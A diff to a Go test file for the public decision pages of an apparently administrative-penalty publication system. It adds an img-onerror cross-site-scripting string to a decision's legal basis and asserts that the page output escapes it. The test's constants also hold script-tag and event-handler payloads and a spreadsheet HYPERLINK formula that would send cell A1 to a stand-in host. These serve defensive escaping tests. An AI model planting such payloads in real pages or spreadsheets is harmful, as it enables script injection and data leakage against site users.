@@ -29,11 +29,13 @@ import (
 var publicNow = time.Date(2027, 1, 5, 10, 0, 0, 0, casework.Shanghai)
 
 // Injection strings that reach the public pages through the terminal's
-// actions: a publication's facts (the masking rules keep such text), a
+// actions: a publication's facts and basis (the masking rules keep such
+// text), a
 // withdrawal's reason, a published list's note, a hub agency id that looks
 // like a spreadsheet formula.
 const (
 	evilFacts   = `<script>alert("事实")</script>`
+	evilBasis   = `"><img src=x onerror=alert("依据")>`
 	evilReason  = `"><img src=x onerror=alert("撤")>复议机关确认违法`
 	evilNote    = `<b onmouseover=alert(1)>新版清单</b>`
 	evilAgency  = `=HYPERLINK("http://x.test/?"&A1,"点我")`
@@ -69,6 +71,7 @@ func newPublicWorld(t *testing.T) *publicWorld {
 		t.Fatal(err)
 	}
 	d.Text.Facts += evilFacts
+	d.Text.Basis += evilBasis
 	p, err := pub.Publish(ctx, d)
 	if err != nil {
 		t.Fatal(err)
@@ -304,10 +307,10 @@ func TestDecisionPage(t *testing.T) {
 	_, body := w.page(t, "/decisions/"+url.PathEscape(w.onTime), 200)
 	mustContain(t, "on time", body, "<h1>"+d.Text.Title+"</h1>", `<dd id="party">`+terminaltest.PartyMasked+"（自然人）</dd>",
 		"<dd>行政处罚</dd>", "<dt>决定日期</dt><dd>2026-11-20</dd>", "<dt>公示日期</dt><dd>"+d.Published+"</dd>",
-		"&lt;script&gt;alert(&#34;事实&#34;)&lt;/script&gt;", "《食品安全法》第一百二十四条。", "罚款200元。",
+		"&lt;script&gt;alert(&#34;事实&#34;)&lt;/script&gt;", "《食品安全法》第一百二十四条。&#34;&gt;&lt;img src=x onerror=alert(&#34;依据&#34;)&gt;", "罚款200元。",
 		"<h2 id=\"verify\">如何核验</h2>", `<dd class="mono" id="event-digest">`+d.Event.String()+"</dd>",
 		fmt.Sprintf(`<dd id="leaf-index">%d</dd>`, d.LogIndex), `href="/decisions/`+url.PathEscape(w.onTime)+`/proof.json" download`)
-	mustNotContain(t, "on time", body, "<script", "逾期公示", "已撤回", "五四路128号")
+	mustNotContain(t, "on time", body, "<script", "<img", "逾期公示", "已撤回", "五四路128号")
 	if d.Event.IsZero() || d.Text.Address == "" {
 		t.Errorf("the view: %+v", d)
 	}
